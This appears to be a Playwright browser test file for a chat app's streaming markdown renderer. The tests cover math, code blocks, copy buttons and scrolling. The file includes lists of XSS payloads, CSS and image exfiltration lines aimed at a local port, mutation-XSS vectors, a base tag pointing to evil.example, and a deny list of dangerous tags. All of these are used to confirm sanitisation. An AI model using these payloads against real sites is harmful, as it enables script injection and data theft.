"""Answers rendered as markdown in a real Chromium, while they stream and after a reload.

The fake vLLM sends each answer in small deltas of varying size, so that every construct (a fence,
a link, a tag, a formula) arrives split across several of them. The page's own checks (from
tests/fixtures_browser.py) hold throughout: no script error, nothing the CSP blocked, and no request
to anywhere but the site.
"""

import itertools
import json
import os
import random
import re
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Locator, Page, expect

from chat import branches
from chat.models import Conversation, Message
from tests.waiting import wait_for

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LINK_REL = "noopener noreferrer nofollow"
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"


def in_deltas(text: str) -> list[str]:
    """`text` in deltas of 1 to 7 characters, so that no construct arrives whole."""
    sizes = itertools.cycle([1, 3, 2, 7, 5, 1, 4])
    deltas, at = [], 0
    while at < len(text):
        size = next(sizes)
        deltas.append(text[at : at + size])
        at += size
    return deltas


def ask(page: Page, prompt: str) -> Locator:
    """Send `prompt`; the answer's article."""
    page.get_by_role("textbox", name="Message").fill(prompt)
    page.get_by_role("textbox", name="Message").press("Enter")
    return page.locator("#thread article.assistant").last


def wait_until_answered(answer: Locator) -> None:
    expect(answer).not_to_have_class(re.compile(r"\bstreaming\b"))
    # And its footer is the site's (chat.js `showEnded`): a button pressed in the one before it
    # showed what it did until the swap replaced it (a sibling CI check saw "Copy" come back so).
    expect(answer).not_to_have_class(re.compile(r"\bending\b"))
    expect(answer.locator(".meta").get_by_role("button", name="Copy")).to_be_visible()


def rendered(answer: Locator) -> str:
    return answer.locator(".body").inner_html()


MARKDOWN = r"""## Plan

Some **bold**, *italic*, ~~struck~~ and `inline code`.

1. First
2. Second

- [x] done
- [ ] to do

| Name | Value |
| ---- | ----: |
| a    | 1     |

```python
def greet(name):
    return f"Hello {name}"
```

Inline math $E = mc^2$ and \(a_1 * b_1 * c\), costs $5 and $10, then displayed:

$$
\int_0^1 x^2 \, dx

= \frac{1}{3}
$$

\[ \frac{a_b}{c_d} \]

> A quote with [a link](https://example.com/docs).
"""
CODE = 'def greet(name):\n    return f"Hello {name}"\n'


def test_markdown_code_and_math_render_the_same_live_and_after_a_reload(signed_in: Page, fake_vllm):
    page = signed_in
    fake_vllm.reply = in_deltas(MARKDOWN)
    # The last delta waits until the page has been looked at mid-answer, however busy the machine.
    fake_vllm.delta_gate = threading.Event()
    fake_vllm.delta_gate_from = len(fake_vllm.reply) - 1
    answer = ask(page, "Show me some markdown")
    # Rendered as it streams, not only at the end.
    expect(answer.locator("h2")).to_have_text("Plan")
    expect(answer).to_have_class(re.compile(r"\bstreaming\b"))
    fake_vllm.delta_gate.set()
    wait_until_answered(answer)
    live = rendered(answer)

    for moment in ("live", "reloaded"):
        if moment == "reloaded":
            page.reload()
            answer = page.locator("#thread article.assistant")
            expect(answer.locator(".body h2"), moment).to_have_text("Plan")
            assert rendered(answer) == live, "the reloaded answer is rendered differently"
        body = answer.locator(".body")
        expect(body.locator("strong"), moment).to_have_text("bold")
        expect(body.locator("em"), moment).to_have_text("italic")
        expect(body.locator("s"), moment).to_have_text("struck")
        expect(body.locator("p > code"), moment).to_have_text("inline code")
        expect(body.locator("ol > li"), moment).to_have_text(["First", "Second"])
        boxes = body.locator("li > input[type=checkbox]")
        expect(boxes, moment).to_have_count(2)
        expect(boxes.first, moment).to_be_checked()
        expect(boxes.nth(1), moment).not_to_be_checked()
        expect(boxes.first, moment).to_be_disabled()
        expect(body.locator("th"), moment).to_have_text(["Name", "Value"])
        expect(body.locator("td"), moment).to_have_text(["a", "1"])

        # Fenced code: highlighted, its language named, its text intact.
        block = body.locator(".code-block")
        expect(block.locator(".language"), moment).to_have_text("python")
        expect(block.locator("code.language-python .hljs-keyword").first, moment).to_have_text("def")
        assert block.locator("code").text_content() == CODE

        # Math: typeset by KaTeX, and what markdown would have eaten (the backslashes, the
        # underscores, the asterisks) reaches it whole. Prices are not formulas.
        expect(body.locator(".katex"), moment).to_have_count(4)
        expect(body.locator(".math-block .katex-display"), moment).to_have_count(2)
        expect(body.locator(".katex-error"), moment).to_have_count(0)
        sources = body.locator("annotation[encoding='application/x-tex']").all_text_contents()
        assert [source.strip() for source in sources] == [
            "E = mc^2",
            "a_1 * b_1 * c",
            "\\int_0^1 x^2 \\, dx\n\n= \\frac{1}{3}",
            "\\frac{a_b}{c_d}",
        ]
        expect(body, moment).to_contain_text("costs $5 and $10, then displayed:")

        link = body.locator("blockquote a")
        expect(link, moment).to_have_text("a link")
        expect(link, moment).to_have_attribute("href", "https://example.com/docs")
        expect(link, moment).to_have_attribute("target", "_blank")
        expect(link, moment).to_have_attribute("rel", LINK_REL)

    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / "answer-rendered.png", full_page=True)
    # API clients and the database keep the model's own text.
    assert Message.objects.get(role="assistant").content == MARKDOWN


def test_copy_buttons_copy_the_code_and_the_whole_answer_as_markdown(signed_in: Page, fake_vllm, live_site):
    page = signed_in
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_site.url)
    clipboard = lambda: page.evaluate("navigator.clipboard.readText()")  # noqa: E731
    fake_vllm.reply = in_deltas(MARKDOWN)
    answer = ask(page, "Show me some markdown")
    wait_until_answered(answer)

    for moment in ("live", "reloaded"):
        if moment == "reloaded":
            page.reload()
            answer = page.locator("#thread article.assistant")
        # (By class: once clicked, the button's name is "Copied" for a moment.)
        copy_code = answer.locator(".code-block .copy-code")
        copy_code.click()
        expect(copy_code, moment).to_have_text("Copied")
        assert clipboard() == CODE, moment
        expect(copy_code, moment).to_have_text("Copy")  # and back, for the next time

        copy_answer = answer.locator(".meta .copy-answer")
        copy_answer.click()
        expect(copy_answer, moment).to_have_text("Copied")
        assert clipboard() == MARKDOWN, moment


def test_a_copy_the_browser_refuses_says_so_instead_of_copied(signed_in: Page, fake_vllm):
    page = signed_in
    fake_vllm.reply = in_deltas(MARKDOWN)
    answer = ask(page, "Show me some markdown")
    wait_until_answered(answer)
    # A browser whose clipboard refuses both ways of writing to it (a policy, a denied permission).
    page.evaluate(
        """() => {
          navigator.clipboard.writeText = () => Promise.reject(new DOMException("denied", "NotAllowedError"));
          document.execCommand = () => false;
        }"""
    )
    copy_answer = answer.locator(".meta .copy-answer")
    copy_answer.click()
    expect(copy_answer).to_have_text("Could not copy")  # it stays: not "Copied", then not "Copy" either


def test_only_web_and_mail_links_are_links_and_images_are_never_fetched(signed_in: Page, fake_vllm, requested_urls):
    page = signed_in
    fake_vllm.reply = in_deltas(
        "See [the docs](https://example.com/a?b=1), [plain http](http://example.com/), "
        "[write](mailto:someone@example.com) and <https://example.com/auto>.\n\n"
        "Refused: [home](/admin/), [script](javascript:alert(1)), [data](data:text/html,hi), "
        "[file](file:///etc/passwd), [relative](page.html).\n\n"
        "![a cat](https://example.com/cat.png) and ![](http://127.0.0.1:9/pixel.gif?c=secret)\n"
    )
    answer = ask(page, "Links please")
    wait_until_answered(answer)

    for moment in ("live", "reloaded"):
        if moment == "reloaded":
            page.reload()
            answer = page.locator("#thread article.assistant")
        body = answer.locator(".body")
        links = body.locator("a")
        expect(links, moment).to_have_count(6)
        hrefs = [links.nth(i).get_attribute("href") for i in range(6)]
        assert hrefs == [
            "https://example.com/a?b=1",
            "http://example.com/",
            "mailto:someone@example.com",
            "https://example.com/auto",
            "https://example.com/cat.png",
            "http://127.0.0.1:9/pixel.gif?c=secret",
        ], moment
        for i in range(6):
            expect(links.nth(i), moment).to_have_attribute("target", "_blank")
            expect(links.nth(i), moment).to_have_attribute("rel", LINK_REL)
        # The refused ones stay as the text the model wrote.
        expect(body, moment).to_contain_text(
            "Refused: [home](/admin/), [script](javascript:alert(1)), [data](data:text/html,hi), "
            "[file](file:///etc/passwd), [relative](page.html)."
        )
        # Images are links to follow by choice, with their alt text (or address) to go by.
        expect(body.locator("a.image-link"), moment).to_have_text(
            ["Image: a cat", "Image: http://127.0.0.1:9/pixel.gif?c=secret"]
        )
        expect(page.locator("#thread img"), moment).to_have_count(0)
    assert not [url for url in requested_urls if "cat.png" in url or "pixel.gif" in url]


# Model output (and prompts) that would run script, fetch something or leak the conversation if
# anything on its way to the page interpreted it. Each arrives split across deltas.
HOSTILE = [
    "<script>window.pwned = 'script tag'</script>",
    "<img src=x onerror=\"window.pwned = 'img onerror'\">",
    "Inline <b onmouseover=\"window.pwned = 'handler'\">bold</b> and <svg onload=\"window.pwned = 'svg'\"></svg>",
    '<a href="javascript:window.pwned=1">raw anchor</a> <iframe src="javascript:window.pwned=2"></iframe>',
    "[click me](javascript:window.pwned=3) [case](JaVaScRiPt:window.pwned=4) [spaced]( javascript:window.pwned=5 )",
    "[entity](javascript&#58;window.pwned=6) [hex](&#x6A;avascript:window.pwned=7) [tab](java\tscript:alert(8))",
    "<javascript:window.pwned=9> <vbscript:msgbox(1)>",
    "[reference][evil]\n\n[evil]: javascript:window.pwned=10",
    "![leak](http://127.0.0.1:9/leak.png?q=the+conversation) ![svg](data:image/svg+xml;base64,PHN2Zy8+)",
    "<style>body { background: url(http://127.0.0.1:9/style.png) }</style>",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
    "&lt;script&gt;window.pwned = 'entity'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "```\"><img src=x onerror=\"window.pwned='info string'\">\n</code></pre><script>window.pwned='fence'</script>\n```",
    "`<img src=x onerror=alert(1)>` and <!-- a comment --> and <details open ontoggle=alert(1)>",
    r"$\href{javascript:alert(1)}{x}$ and $\url{javascript:alert(2)}$ and $\includegraphics{http://127.0.0.1:9/i.png}$",
    r"$$\htmlStyle{background:url(http://127.0.0.1:9/k.png)}{x}$$",
    '<form action="http://127.0.0.1:9/"><button>Send</button></form><meta http-equiv="refresh" content="0;url=/">',
]
HOSTILE_ANSWER = "\n\n".join(HOSTILE) + "\n"
HOSTILE_PROMPT = (
    "**not bold** <img src=x onerror=\"window.pwned='prompt'\"> [x](javascript:alert(1)) <script>1</script>"
)

# Records every element and attribute that reaches the thread, from the page's first byte on,
# whatever removes it afterwards.
WATCH_THE_THREAD = """
window.reached = [];
new MutationObserver((records) => {
  for (const record of records) {
    const nodes = record.type === "attributes" ? [record.target] : [...record.addedNodes];
    for (const node of nodes) {
      if (node.nodeType !== Node.ELEMENT_NODE || !node.closest("#thread")) continue;
      for (const element of [node, ...node.querySelectorAll("*")]) {
        window.reached.push({
          tag: element.localName,
          attributes: [...element.attributes].map((a) => [a.name, a.value]),
        });
      }
    }
  }
}).observe(document, { childList: true, subtree: true, attributes: true });
"""
# Elements that could run something, fetch something, or send something somewhere.
DANGEROUS_TAGS = {"script", "img", "image", "iframe", "object", "embed", "style", "link", "video", "audio", "source",
                  "picture", "form", "meta", "base", "use", "feimage", "foreignobject", "details"}  # fmt: skip
SAFE_URL = re.compile(r"^(https?:|mailto:)", re.IGNORECASE)


def test_hostile_output_and_prompts_never_run_or_fetch_anything(signed_in: Page, fake_vllm, dialogs, requested_urls):
    page = signed_in
    page.add_init_script(WATCH_THE_THREAD)
    page.reload()
    fake_vllm.reply = in_deltas(HOSTILE_ANSWER)
    fake_vllm.token_delay = 0.002
    answer = ask(page, HOSTILE_PROMPT)
    wait_until_answered(answer)

    for moment in ("live", "reloaded"):
        if moment == "reloaded":
            page.reload()
            answer = page.locator("#thread article.assistant")
            expect(answer.locator(".body .block").first).to_be_visible()
        reached = page.evaluate("window.reached")
        assert reached, "the watcher saw nothing"
        tags = {element["tag"] for element in reached}
        assert not tags & DANGEROUS_TAGS, moment
        attributes = [(e["tag"], name, value) for e in reached for name, value in e["attributes"]]
        assert [a for a in attributes if a[1].startswith("on")] == [], moment
        assert [a for a in attributes if a[1] in {"href", "src", "xlink:href", "action", "formaction"}
                and not SAFE_URL.match(a[2])] == [], moment  # fmt: skip
        assert [a for a in attributes if a[1] == "style" and "url(" in a[2]] == [], moment
        assert page.evaluate("window.pwned") is None, moment

        body = answer.locator(".body")
        # Raw HTML is shown as the text the model wrote.
        expect(body, moment).to_contain_text("<script>window.pwned = 'script tag'</script>")
        expect(body, moment).to_contain_text("<img src=x onerror=\"window.pwned = 'img onerror'\">")
        expect(body, moment).to_contain_text("[click me](javascript:window.pwned=3)")
        expect(body, moment).to_contain_text("<script>window.pwned = 'entity'</script> <img src=x onerror=alert(1)>")
        expect(body.locator(".code-block .language"), moment).to_have_text('"><img')
        # KaTeX refuses the commands that would link or load, and shows them, in red, as written.
        expect(body.locator(".katex"), moment).to_have_count(4)
        expect(body.locator(".katex-html"), moment).to_have_text(
            ["\\href", "\\url", "\\includegraphics", "\\htmlStyle"]
        )
        expect(body.locator(".katex a, .katex [href], .katex [src]"), moment).to_have_count(0)
        # The prompt stays plain text: not even markdown.
        prompt = page.locator("#thread article.user .body")
        expect(prompt, moment).to_have_text(HOSTILE_PROMPT)
        expect(prompt.locator("*"), moment).to_have_count(0)
        page.evaluate("window.reached = []")

    assert dialogs == []
    assert not [url for url in requested_urls if ":9/" in url]


def test_the_reader_scrolled_up_stays_put_while_the_answer_grows(signed_in: Page, fake_vllm):
    page = signed_in
    thread = page.locator("#thread")
    # 80 paragraphs of 30 words, a sentence of 6 words a delta.
    fake_vllm.reply = []
    for i in range(80):
        words = [f"word{i}-{j}" for j in range(30)]
        fake_vllm.reply += [f"Paragraph {i}: {' '.join(words[:6])}"]
        fake_vllm.reply += [f" {' '.join(words[j : j + 6])}" for j in range(6, 30, 6)]
        fake_vllm.reply[-1] += "\n\n"
    fake_vllm.token_delay = 0.01
    answer = ask(page, "Write a lot")

    # While the reader is at the end, the end stays in view.
    expect(answer.locator(".body")).to_contain_text("Paragraph 20:")
    at_end = "(t) => t.scrollHeight - t.scrollTop - t.clientHeight < 80"
    assert thread.evaluate(at_end)
    # Scrolled up to read: the page no longer moves, and the same paragraph stays at the top.
    thread.evaluate("(t) => { t.scrollTop = 300; }")
    top_paragraph = "(t) => document.elementFromPoint(t.getBoundingClientRect().left + 40, t.getBoundingClientRect().top + 30)?.textContent.slice(0, 14)"  # noqa: E501
    reading = thread.evaluate(top_paragraph)
    expect(answer.locator(".body")).to_contain_text("Paragraph 60:")
    assert thread.evaluate("(t) => t.scrollTop") == 300
    assert thread.evaluate(top_paragraph) == reading
    wait_until_answered(answer)
    assert thread.evaluate("(t) => t.scrollTop") == 300
    assert not thread.evaluate(at_end)


def test_a_reconnected_stream_renders_the_whole_answer_once(signed_in: Page, fake_vllm, live_site):
    """A second tab following a running answer sees it rendered as the first tab does."""
    page = signed_in
    fake_vllm.reply = in_deltas(MARKDOWN)
    # The last delta waits until the second tab follows the answer, however long a busy machine
    # takes to open it (its pace alone once let the answer end first).
    fake_vllm.delta_gate = threading.Event()
    fake_vllm.delta_gate_from = len(fake_vllm.reply) - 1
    answer = ask(page, "Show me some markdown")
    expect(answer.locator("h2")).to_have_text("Plan")

    other = page.context.new_page()
    other.goto(page.url)
    following = other.locator("#thread article.assistant")
    expect(following).to_have_class(re.compile(r"\bstreaming\b"))
    expect(following.locator(".body h2")).to_have_text("Plan")
    fake_vllm.delta_gate.set()
    wait_until_answered(answer)
    wait_until_answered(following)
    assert rendered(following) == rendered(answer)
    expect(following.locator(".body h2")).to_have_count(1)
    other.close()


def test_an_answer_that_ends_in_an_error_keeps_its_rendered_text(signed_in: Page, fake_vllm):
    page = signed_in
    fake_vllm.reply = in_deltas("Partial **answer** with `code`")
    fake_vllm.fault = "error_frame"
    fake_vllm.fault_after = len(fake_vllm.reply)
    answer = ask(page, "Fail after a while")
    expect(answer.locator(".status")).to_have_text("Error")
    expect(answer.locator(".body strong")).to_have_text("answer")
    live = rendered(answer)
    page.reload()
    answer = page.locator("#thread article.assistant")
    expect(answer.locator(".status")).to_have_text("Error")
    assert rendered(answer) == live
    assert Message.objects.get(role="assistant").content == "Partial **answer** with `code`"


def test_a_long_code_block_streams_in_pieces_and_ends_rendered_whole(signed_in: Page, fake_vllm):
    page = signed_in
    code = "".join(f"    total_{i} = add(total_{i - 1}, {i})  # step {i}\n" for i in range(1, 200))
    text = f"The program:\n\n```python\ndef main():\n{code}```\n\nThat is all."
    fake_vllm.reply = [line + "\n" for line in text.split("\n")]
    fake_vllm.reply[-1] = fake_vllm.reply[-1].rstrip("\n")
    fake_vllm.token_delay = 0.02
    # The answer waits before its last 20 lines until the page has been looked at mid-answer: a busy
    # machine's looks would otherwise come after the end, when the pieces are gone.
    fake_vllm.delta_gate = threading.Event()
    fake_vllm.delta_gate_from = len(fake_vllm.reply) - 20
    answer = ask(page, "A long program")

    # While it is written, the code comes in highlighted pieces, each rendered once.
    pieces = answer.locator("pre .piece")
    expect(pieces.nth(2)).to_be_attached()
    pieces.first.evaluate("(piece) => { piece.dataset.seen = 'yes'; }")
    expect(answer.locator(".code-block .language")).to_have_text("python")
    expect(answer.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(answer.locator(".body")).to_contain_text("step 150")
    expect(answer.locator("pre .piece[data-seen]"), "a finished piece was rendered again").to_have_count(1)
    fake_vllm.delta_gate.set()
    wait_until_answered(answer)

    # Once complete, the block is rendered whole, as after a reload.
    expect(pieces).to_have_count(0)
    assert answer.locator("pre code").text_content() == f"def main():\n{code}"
    live = rendered(answer)
    page.reload()
    answer = page.locator("#thread article.assistant")
    expect(answer.locator(".body p").last).to_have_text("That is all.")
    assert rendered(answer) == live


# Counts the characters the page hands to markdown-it, from the first byte on.
COUNT_WHAT_IS_RENDERED = """
window.renderedChars = 0;
let markdownit;
Object.defineProperty(window, "markdownit", {
  configurable: true,
  get: () => markdownit,
  set(factory) {
    markdownit = (...args) => {
      const md = factory(...args);
      const render = md.render.bind(md);
      md.render = (src, env) => { window.renderedChars += src.length; return render(src, env); };
      return md;
    };
  },
});
window.longTasks = [];
new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) window.longTasks.push(entry.duration);
}).observe({ type: "longtask", buffered: true });
"""


def test_a_long_answer_is_rendered_in_proportion_to_its_length(signed_in: Page, fake_vllm):
    """Only the open chunk is rendered again as deltas arrive: not the whole answer each time.

    bench/render.py measures the main thread for a 20,000-token answer; this answer fits the
    test site's 2,048-token context.
    """
    page = signed_in
    page.add_init_script(COUNT_WHAT_IS_RENDERED)
    page.reload()
    text = (MARKDOWN + "\n") * 13
    fake_vllm.reply = in_deltas(text)
    fake_vllm.token_delay = 0.002
    page.locator("#settings-panel > summary").click()
    page.locator("input[name=max_tokens]").fill(str(len(fake_vllm.reply) + 10))
    page.evaluate("window.renderedChars = 0; window.longTasks = []")
    answer = ask(page, "Tell me everything")
    page.wait_for_function(
        "() => document.querySelector('#thread article.assistant:not(.streaming) .copy-answer')", polling=500
    )
    rendered_chars, long_tasks = page.evaluate("[window.renderedChars, window.longTasks]")
    print(
        f"\n{len(fake_vllm.reply)} deltas, {len(text)} characters: markdown-it rendered {rendered_chars} "
        f"({rendered_chars / len(text):.1f} times the answer); main-thread tasks over 50 ms: {long_tasks}"
    )
    # Rendering the whole text on each frame would be well over 50 times the answer here.
    assert rendered_chars < 15 * len(text)
    expect(answer.locator(".katex")).to_have_count(13 * 4)


def test_a_long_conversation_opens_with_every_answer_rendered(signed_in: Page, alice):
    """The answers in view are rendered before the page shows; the others follow, a task each."""
    page = signed_in
    conversation = Conversation.objects.create(owner=alice, title="Long one")
    answer = None
    for i in range(40):  # one line of turns, each after the one before
        prompt = Message.objects.create(conversation=conversation, parent=answer, role="user", content=f"Question {i}")
        answer = Message.objects.create(
            conversation=conversation, parent=prompt, role="assistant", content=MARKDOWN * 3
        )
    page.goto(f"/c/{conversation.pk}/")
    bodies = page.locator("#thread article.assistant .body")
    # The page holds the branch's newest messages; the earlier ones come as the reader scrolls up
    # (tests/chat/test_long_histories.py).
    on_the_page = branches.PAGE // 2
    expect(bodies).to_have_count(on_the_page)
    expect(bodies.locator(".block:first-child h2")).to_have_count(on_the_page)
    first, last = bodies.first.inner_html(), bodies.last.inner_html()
    assert first == last
    assert bodies.last.locator(".katex").count() == 12
    # The page opened at the end of the conversation, and stayed there.
    assert page.locator("#thread").evaluate("(t) => t.scrollHeight - t.scrollTop - t.clientHeight < 80")


# Markdown whose blocks run over blank lines, or nearly: where cutting the text into chunks could go
# wrong.
TRICKY = [
    "1. one\n\n2. two\n\n   still two\n\ntext\n\n3. three\n- a\n\n  - nested\n\n- b\n",
    "```js\nlet a = 1;\n\n\nlet b = 2;\n```\n\n~~~~\n```\nnot closed by that\n\n~~~~\nafter\n",
    "    indented code\n\n    more of it\n\npara\n\n> quote\n>\n> more quote\n\n> another\n",
    "$$\na\n\nb\n$$\n\n\\[\nx\n\n\\]\n\nTitle\n=====\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n",
    "- item\n\n  ```py\n  x = 1\n\n  y = 2\n  ```\n\n- next\n\n```\nnever closed\n\nstill code",
    "Costs $5 and $6.\n\n$x$ and \\(y\\) and \\[z\\] and \\( not closed\n\n**bold\n\nnot bold**",
]


def test_any_cutting_into_deltas_and_frames_renders_as_the_whole_text(signed_in: Page):
    """Whatever deltas the text arrives in, and whenever frames come, the end is the same DOM."""
    page = signed_in
    chance = random.Random(11)
    cases = []
    for text in [*TRICKY, MARKDOWN, HOSTILE_ANSWER]:
        for _ in range(8):
            cuts = sorted(chance.sample(range(1, len(text)), k=min(len(text) - 1, chance.randint(1, 40))))
            deltas = [text[a:b] for a, b in itertools.pairwise([0, *cuts, len(text)])]
            frames = [chance.random() < 0.5 for _ in deltas]  # a frame after this delta, or not
            cases.append((text, deltas, frames))
    mismatches = page.evaluate(
        """async (cases) => {
          const settled = () => new Promise((done) => setTimeout(done, 100));
          const mismatches = [];
          for (const [text, deltas, frames] of cases) {
            const whole = document.createElement("div");
            const streamed = document.createElement("div");
            document.body.append(whole, streamed);
            const once = ChatAnswer.follow(whole);
            once.append(text);
            once.finish();
            const answer = ChatAnswer.follow(streamed);
            deltas.forEach((delta, i) => {
              answer.append(delta);
              if (frames[i]) answer.render();
            });
            answer.finish();
            await settled();
            if (whole.innerHTML !== streamed.innerHTML) mismatches.push([deltas, whole.innerHTML, streamed.innerHTML]);
            whole.remove();
            streamed.remove();
          }
          return mismatches;
        }""",
        cases,
    )
    assert mismatches == []


# The end of an answer that quotes hostile markup (issue 24), as vLLM sent it: after a reload the
# page showed it only up to the `<base href=...>` line.
QUOTED_MARKUP = json.loads(
    r'''"/iframe>\n<details open ontoggle=\"document.title='X'\">x</details>\n<style>body{display:none!important}</style>\n<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n<div hx-get=\"/c/new/send\" hx-trigger=\"load\" hx-on::load=\"document.title='X'\">htmx</div>\n<math><mtext><table><mglyph><style><img src=x onerror=alert('X')></style></mglyph></table></mtext></math>\n<base href=\"http://evil.example/\">\n\n\nevent: done\ndata: {\"status\": \"complete\"}\n\ndata: [DONE]\n\nafter-injection\nline1\r\nline2\rline3\nline4\n<!-- hidden rest still visible? -->\n<script>alert('X')</script>\nnul\u0000byte\n<body onload=alert('X')>\n<object data=\"javascript:alert('X')\"></object>\n<input autofocus onfocus=\"document.title='X'\">\nfin. \nsep\u2028line\u2029para\u0085nel\n"'''  # noqa: E501 - as the issue quotes it
)
# What came before it, as long as it was (11,595 characters in all): ordinary markdown, and markup
# that it quotes.
BEFORE_QUOTED_MARKUP = ((MARKDOWN + "\n" + HOSTILE_ANSWER + "\n") * 10)[: 11_595 - len(QUOTED_MARKUP) - 2] + "\n<"


# The text a person reads: every block as laid out, including those that `content-visibility: auto`
# (chat.css) leaves unpainted while they are off screen, which innerText would leave out.
VISIBLE_TEXT = """(body) => {
  const blocks = [...body.querySelectorAll(".block")];
  blocks.forEach((block) => { block.style.contentVisibility = "visible"; });
  const text = body.innerText;
  blocks.forEach((block) => { block.style.contentVisibility = ""; });
  return text;
}"""


def copied_answer(page: Page, answer: Locator) -> str:
    """What the answer's Copy put on the clipboard: waited for on the clipboard itself, which the test
    empties first (the button's "Copied" lasts 1.5 s, which a busy machine's polling could miss)."""
    button = answer.locator(".meta .copy-answer")
    page.bring_to_front()  # the clipboard is the focused page's
    page.evaluate("navigator.clipboard.writeText('')")
    button.click()
    polls = 0

    def copied() -> str:
        # A person's click on Copy lands on a focused page. A busy run's Chromium can lose the focus
        # to nothing the test did (hog run 5 today: the clipboard stayed empty for 30 s), and then
        # both ways of copying fail: focus it and click again every 20 polls, within the same bound.
        nonlocal polls
        polls += 1
        text: str = page.evaluate("navigator.clipboard.readText()")
        if not text and polls % 20 == 0:
            page.bring_to_front()
            button.click()
        return text

    return wait_for(copied, what="the copied answer")


@pytest.mark.parametrize("split", ["one delta", "every character"])
def test_an_answer_quoting_hostile_markup_shows_all_of_it_after_a_reload(
    signed_in: Page, fake_vllm, live_site, alice_api, dialogs, split
):
    page = signed_in
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_site.url)
    fake_vllm.reply = [line + "\n" for line in BEFORE_QUOTED_MARKUP.split("\n")]
    fake_vllm.reply[-1] = fake_vllm.reply[-1].removesuffix("\n")
    fake_vllm.reply += [QUOTED_MARKUP] if split == "one delta" else list(QUOTED_MARKUP)
    page.locator("#settings-panel > summary").click()
    page.locator("input[name=max_tokens]").fill(str(len(fake_vllm.reply) + 10))
    answer = ask(page, "Show me an XSS payload")
    wait_until_answered(answer)
    stored = Message.objects.get(role="assistant").content
    assert stored == (BEFORE_QUOTED_MARKUP + QUOTED_MARKUP).replace("\x00", "\ufffd")
    conversation = Message.objects.get(role="assistant").conversation_id
    assert alice_api.get(f"/conversations/{conversation}").json()["messages"][-1]["content"] == stored

    for moment in ("live", "reloaded"):
        if moment == "reloaded":
            page.reload()
            answer = page.locator("#thread article.assistant")
        body = answer.locator(".body")
        # The end of the answer is on the page, and in view.
        expect(body.locator(".block").last, moment).to_contain_text("fin.")
        expect(body.locator(".block").last, moment).to_be_in_viewport()
        if moment == "live":
            live = body.evaluate(VISIBLE_TEXT)
        else:
            assert body.evaluate(VISIBLE_TEXT) == live
        assert copied_answer(page, answer) == stored, moment
    assert page.title() != "X" and dialogs == []


# Answers as models write them, ordinary and hostile: each is streamed, split at random points, and
# must read the same live, after a reload and in another tab.
CORPUS = [
    MARKDOWN,
    HOSTILE_ANSWER,
    BEFORE_QUOTED_MARKUP[-600:] + QUOTED_MARKUP,
    *TRICKY[:3],
    "Costs $5, $ 6 and $7$ then $x$y$ and $$ unclosed\n\n$a\\$b$ and \\$ and $$x$$ inline and a lone $\n"
    "\\(\\) \\[ \\] $\\frac{1}{$ and $$\n\\begin{matrix} a & b \\end{matrix}\n$$ tail $\n",
    '<div>not a div</div> <span style="color:red">x</span> &amp; &lt;b&gt; &#x3C;i&#x3E; &nbsp;&copy; '
    "<!-- c --> <![CDATA[ x ]]> <?php echo 1 ?>\n\n</p></div></li></table> <p>open\n\n<textarea><b>t</b>\n",
    "Controls: \x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m \x7f\x80\x9f\u200b\u200e\u202e reversed\u202c "
    "\ufeff\ufffe end\n\nline\r\nwith CRLF\rand CR\r\r\rthree CRs\n\r\n\rtrailing\r",
    "sep\u2028line\u2029para\u0085nel\n\n\u2028\n\n\u2029\u2029 only separators \u2028\n",
    "한국어 답변입니다. **굵게** 그리고 `코드`, 수식 $x^2$.\n\n- 항목 하나\n- 항목 둘\n\n> 인용 🙂 👍🏽 e\u0301\n",
    "```\nunclosed fence <script>alert(1)</script>\n\n$$ not math $$\n\n",
    "    indented <b>code</b>\n\n* * *\n\n[ref]: https://example.com\n\n[ref] and [missing] and <https://x.example>\n"
    "\n| a | <b> |\n|---|---|\n| `|` | $|$ |\n",
    'data: [DONE]\n\nevent: done\ndata: {"status": "error"}\n\nid: 5\nretry: 1\n\n: comment\n\n',
]


def split_at_random(text: str, chance: random.Random, fewest: int = 0, most: int = 60) -> list[str]:
    cuts = sorted(chance.sample(range(1, len(text)), k=min(len(text) - 1, chance.randint(fewest, most))))
    return [text[a:b] for a, b in itertools.pairwise([0, *cuts, len(text)])]


def test_any_answer_reads_the_same_live_after_a_reload_and_in_another_tab(signed_in: Page, fake_vllm, live_site):
    """The property of issue 24, over the corpus above in one conversation: one reload, one other tab.

    A new seed each run, named on failure; RENDER_SEED=<seed> runs that one again.
    """
    page = signed_in
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_site.url)
    seed = int(os.environ.get("RENDER_SEED") or random.randrange(2**32))
    chance = random.Random(seed)
    answers = page.locator("#thread article.assistant")
    page.locator("#settings-panel > summary").click()
    page.locator("input[name=max_tokens]").fill("450")  # room for the other tab's answer, below
    live = []
    for i, text in enumerate(CORPUS):
        fake_vllm.reply = split_at_random(text, chance)
        ask(page, f"Question {i}")
        wait_until_answered(answers.nth(i))
        live.append(answers.nth(i).locator(".body").evaluate(VISIBLE_TEXT))
    stored = list(Message.objects.filter(role="assistant").order_by("pk").values_list("content", flat=True))
    assert stored == [text.replace("\x00", "\ufffd") for text in CORPUS]

    # Another tab, following the last answer again as it streams: the engine holds the answer's
    # deltas until that tab shows it streaming, however long a busy machine takes to open it.
    fake_vllm.reply = split_at_random(CORPUS[-1] + CORPUS[0], chance, fewest=300, most=400)
    fake_vllm.token_delay = 0.01
    fake_vllm.delta_gate = threading.Event()
    ask(page, "And once more")
    expect(answers).to_have_count(len(CORPUS) + 1)  # the turn is stored before the other tab opens
    other = page.context.new_page()
    other.goto(page.url)
    followed = other.locator("#thread article.assistant").last
    expect(followed).to_have_class(re.compile(r"\bstreaming\b"))
    fake_vllm.delta_gate.set()
    wait_until_answered(answers.last)
    wait_until_answered(followed)
    assert followed.locator(".body").evaluate(VISIBLE_TEXT) == answers.last.locator(".body").evaluate(VISIBLE_TEXT), (
